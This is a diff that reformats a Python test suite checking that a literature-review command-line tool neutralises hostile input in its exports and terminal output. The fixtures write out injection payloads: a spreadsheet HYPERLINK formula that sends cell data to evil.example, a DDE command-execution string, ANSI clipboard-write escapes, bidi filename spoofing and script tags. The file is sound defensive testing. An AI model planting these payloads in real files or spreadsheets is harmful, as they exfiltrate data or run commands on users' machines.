@@ -38,12 +38,27 @@ from litreview.storage.db import integrity_ok
 from litreview.storage.review import Review, create_review, open_review
 
 PROTOCOL = Path(__file__).resolve().parent.parent / "data" / "report" / "protocol.toml"
-COMMANDS = (import_, status, next_, export, table, prisma, export_codes, export_decisions,
-            backup, dedup_eval, simulate)  # fmt: skip
+COMMANDS = (
+    import_,
+    status,
+    next_,
+    export,
+    table,
+    prisma,
+    export_codes,
+    export_decisions,
+    backup,
+    dedup_eval,
+    simulate,
+)
 # the root group's --db option and callback with the commands under test (the lead registers
 # them on the real group; tests must not change that shared object)
-ROOT = click.Group("litreview", params=cli.params, callback=cli.callback,
-                   commands={c.name: c for c in COMMANDS if c.name})  # fmt: skip
+ROOT = click.Group(
+    "litreview",
+    params=cli.params,
+    callback=cli.callback,
+    commands={c.name: c for c in COMMANDS if c.name},
+)
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?"&A1,"open")',
@@ -55,8 +70,28 @@ MARKUP = "[bold red]loud[/] [link=https://evil.example]x[/link] [@click=app.quit
 ANSI = "\x1b[31mred\x1b[0m \x1b]0;owned\x07 \x1b]52;c;ZXZpbA==\x07"
 BIDI = "abc\u202eevil.exe\u202c \u2066iso\u2069 zero\u200bwidth"
 HOSTILE = [*FORMULAS, MARKUP, ANSI, BIDI]
-TAGS = ("TI", "T2", "AB", "KW", "N1", "PB", "CY", "VL", "IS", "SP", "EP", "SN", "UR", "DB", "AN",
-        "LA", "DA", "ET", "M3", "C1")  # fmt: skip
+TAGS = (
+    "TI",
+    "T2",
+    "AB",
+    "KW",
+    "N1",
+    "PB",
+    "CY",
+    "VL",
+    "IS",
+    "SP",
+    "EP",
+    "SN",
+    "UR",
+    "DB",
+    "AN",
+    "LA",
+    "DA",
+    "ET",
+    "M3",
+    "C1",
+)
 REVIEWER = "=cmd|' /C calc'!A0"
 
 
@@ -73,8 +108,14 @@ def hostile_ris(path: Path) -> Path:
         lines += [f"{tag}  - {HOSTILE[(i + k) % len(HOSTILE)]}" for k, tag in enumerate(TAGS)]
         lines += [f"DO  - 10.1000/hostile.{i}", "ER  - ", ""]
     for i in range(12):  # realistic text after them: control characters stay under 1 %
-        lines += ["TY  - JOUR", f"TI  - Plain record {i}", "PY  - 2011",
-                  "AB  - " + "plain words " * 150, "ER  - ", ""]  # fmt: skip
+        lines += [
+            "TY  - JOUR",
+            f"TI  - Plain record {i}",
+            "PY  - 2011",
+            "AB  - " + "plain words " * 150,
+            "ER  - ",
+            "",
+        ]
     path.write_text("\n".join(lines), encoding="utf-8")
     return path
 
@@ -96,8 +137,13 @@ def hostile(tmp_path: Path) -> Review:
     from litreview.screening.session import decide
 
     review = create_review(tmp_path / "hostile.db", PROTOCOL.read_text(encoding="utf-8"))
-    options = ImportOptions(database=FORMULAS[0], platform=MARKUP, query=FORMULAS[1],
-                            searched_on="2024-01-02", limits=ANSI)  # fmt: skip
+    options = ImportOptions(
+        database=FORMULAS[0],
+        platform=MARKUP,
+        query=FORMULAS[1],
+        searched_on="2024-01-02",
+        limits=ANSI,
+    )
     import_files(review, [hostile_ris(tmp_path / "hostile.ris")], options)
     for work_id in (1, 2, 3):
         decide(review, work_id, "include", stage="title", reviewer=REVIEWER, note=FORMULAS[2])
@@ -106,11 +152,16 @@ def hostile(tmp_path: Path) -> Review:
     for work_id in (1, 2):
         decide(review, work_id, "include", stage="full", reviewer=REVIEWER, note=MARKUP)
         set_notes(review, work_id, {"findings": FORMULAS[0]}, reviewer=REVIEWER)
-        set_codes(review, work_id, {
-            "method": CodeValue(("experiment",)),
-            "venue": CodeValue(("journal",), detail=FORMULAS[1]),
-            "summary": CodeValue((), text=f"{FORMULAS[3]} <script>x</script> {MARKUP}"),
-        }, reviewer=REVIEWER)  # fmt: skip
+        set_codes(
+            review,
+            work_id,
+            {
+                "method": CodeValue(("experiment",)),
+                "venue": CodeValue(("journal",), detail=FORMULAS[1]),
+                "summary": CodeValue((), text=f"{FORMULAS[3]} <script>x</script> {MARKUP}"),
+            },
+            reviewer=REVIEWER,
+        )
         rate_study(review, work_id, {"design": "yes", "data": "partly"}, reviewer=REVIEWER)
     decide(review, 3, "exclude", stage="full", reviewer=REVIEWER, reason="no-data", note=ANSI)
     yield review
@@ -149,8 +200,10 @@ def test_text_output_for_a_person_drops_escapes_and_bidi_overrides(
     review: Review, tmp_path: Path
 ) -> None:
     path = tmp_path / "one.ris"
-    record = (f"TY  - JOUR\nTI  - {ANSI} {BIDI}\nAU  - {ANSI}\nT2  - {BIDI}\nPY  - 2001\n"
-              f"AB  - {MARKUP} {ANSI} {'plain words ' * 200}\nER  - \n\n")  # fmt: skip
+    record = (
+        f"TY  - JOUR\nTI  - {ANSI} {BIDI}\nAU  - {ANSI}\nT2  - {BIDI}\nPY  - 2001\n"
+        f"AB  - {MARKUP} {ANSI} {'plain words ' * 200}\nER  - \n\n"
+    )
     path.write_text(record * 5, encoding="utf-8")
     import_files(review, [path])
     code, out, _, exc = run(review.path, "next")
@@ -187,8 +240,14 @@ def xlsx_cells(path: Path) -> list[str]:
     return cells
 
 
-TABLES = [["studies"], ["matrix", "--rows", "method", "--cols", "venue"], ["grades"],
-          ["sources"], ["exclusions"], ["searches"]]  # fmt: skip
+TABLES = [
+    ["studies"],
+    ["matrix", "--rows", "method", "--cols", "venue"],
+    ["grades"],
+    ["sources"],
+    ["exclusions"],
+    ["searches"],
+]
 
 
 @pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@@ -230,11 +289,14 @@ def test_record_and_code_exports_neutralise_formulas(hostile: Review, tmp_path: 
     assert all(NEUTRAL_CELL.match(c) for c in csv_cells(prisma_csv.read_text("utf-8")))
 
 
-@pytest.mark.parametrize(("fmt", "forbidden"), [
-    ("md", ["[bold red]", "<script>"]),
-    ("html", ["<script>"]),
-    ("latex", ["<script>"]),
-])  # fmt: skip
+@pytest.mark.parametrize(
+    ("fmt", "forbidden"),
+    [
+        ("md", ["[bold red]", "<script>"]),
+        ("html", ["<script>"]),
+        ("latex", ["<script>"]),
+    ],
+)
 def test_text_tables_escape_markup(hostile: Review, fmt: str, forbidden: list[str]) -> None:
     code, out, _, exc = run(hostile.path, "table", "studies", "--format", fmt)
     assert (code, exc) == (0, None)
@@ -283,8 +345,11 @@ def test_ten_thousand_authors_import_and_deduplicate(review: Review, tmp_path: P
     authors = "".join(f"AU  - Surname{i}, Given{i % 26}\n" for i in range(10_000))
     for name in ("a", "b"):
         path = tmp_path / f"{name}.ris"
-        path.write_text(f"TY  - JOUR\nTI  - Consortium paper\n{authors}PY  - 2001\n"
-                        f"DO  - 10.1000/big\nDB  - {name}\nER  - \n", "utf-8")  # fmt: skip
+        path.write_text(
+            f"TY  - JOUR\nTI  - Consortium paper\n{authors}PY  - 2001\n"
+            f"DO  - 10.1000/big\nDB  - {name}\nER  - \n",
+            "utf-8",
+        )
         import_files(review, [path])
     started = time.perf_counter()
     run_dedup(review)
@@ -361,11 +426,15 @@ def test_the_review_file_is_not_importable(review: Review) -> None:
 
 def test_nothing_parses_xml_except_through_defusedxml() -> None:
     """Entity bombs cannot reach a parser: the package never imports an unsafe XML parser."""
-    unsafe = re.compile(r"^\s*(?:from|import)\s+(?:xml\.(?:etree|dom|sax(?!\.saxutils))|lxml)\b",
-                        re.MULTILINE)  # fmt: skip
+    unsafe = re.compile(
+        r"^\s*(?:from|import)\s+(?:xml\.(?:etree|dom|sax(?!\.saxutils))|lxml)\b", re.MULTILINE
+    )
     package = Path(__file__).resolve().parents[2] / "litreview"
-    offenders = [str(p.relative_to(package)) for p in package.rglob("*.py")
-                 if unsafe.search(p.read_text(encoding="utf-8"))]  # fmt: skip
+    offenders = [
+        str(p.relative_to(package))
+        for p in package.rglob("*.py")
+        if unsafe.search(p.read_text(encoding="utf-8"))
+    ]
     assert offenders == []
 
 
@@ -378,13 +447,18 @@ def _output_commands(db: Path, target: str, tmp_path: Path) -> list[list[str]]:
     screening = tmp_path / "screening.csv"
     screening.write_text("title,abstract,label_included\nA,a,1\nB,b,0\n", encoding="utf-8")
     return [
-        ["prisma", "--svg", target], ["prisma", "--csv", target],
-        ["table", "studies", "-o", target], ["table", "grades", "--format", "xlsx", "-o", target],
-        ["export", "-o", target], ["export", "--format", "csv", "-o", target],
-        ["export-codes", "-o", target], ["export-decisions", "--reviewer", "x", "-o", target],
-        ["backup", target], ["dedup-eval", str(labelled), "--groups-out", target],
+        ["prisma", "--svg", target],
+        ["prisma", "--csv", target],
+        ["table", "studies", "-o", target],
+        ["table", "grades", "--format", "xlsx", "-o", target],
+        ["export", "-o", target],
+        ["export", "--format", "csv", "-o", target],
+        ["export-codes", "-o", target],
+        ["export-decisions", "--reviewer", "x", "-o", target],
+        ["backup", target],
+        ["dedup-eval", str(labelled), "--groups-out", target],
         ["simulate", str(screening), "--seeds", "1", "--trace-out", target],
-    ]  # fmt: skip
+    ]
 
 
 @pytest.mark.parametrize("alias", ["itself", "wal", "shm", "symlink", "hardlink"])
@@ -392,8 +466,13 @@ def test_no_output_option_overwrites_the_review(
     hostile: Review, tmp_path: Path, alias: str
 ) -> None:
     db = hostile.path
-    target = {"itself": db, "wal": Path(f"{db}-wal"), "shm": Path(f"{db}-shm"),
-              "symlink": tmp_path / "link.db", "hardlink": tmp_path / "hard.db"}[alias]  # fmt: skip
+    target = {
+        "itself": db,
+        "wal": Path(f"{db}-wal"),
+        "shm": Path(f"{db}-shm"),
+        "symlink": tmp_path / "link.db",
+        "hardlink": tmp_path / "hard.db",
+    }[alias]
     if alias == "symlink":
         target.symlink_to(db)
     elif alias == "hardlink":
@@ -409,8 +488,11 @@ def test_no_output_option_overwrites_the_review(
 
 
 def test_outputs_elsewhere_still_work(hostile: Review, tmp_path: Path) -> None:
-    for args, suffix in ((["table", "studies", "-o"], ".md"), (["export", "-o"], ".ris"),
-                         (["backup"], ".out")):  # fmt: skip
+    for args, suffix in (
+        (["table", "studies", "-o"], ".md"),
+        (["export", "-o"], ".ris"),
+        (["backup"], ".out"),
+    ):
         target = tmp_path / f"{args[0]}{suffix}"
         code, _, err, exc = run(hostile.path, *args, str(target))
         assert (code, exc) == (0, None), (args, err)
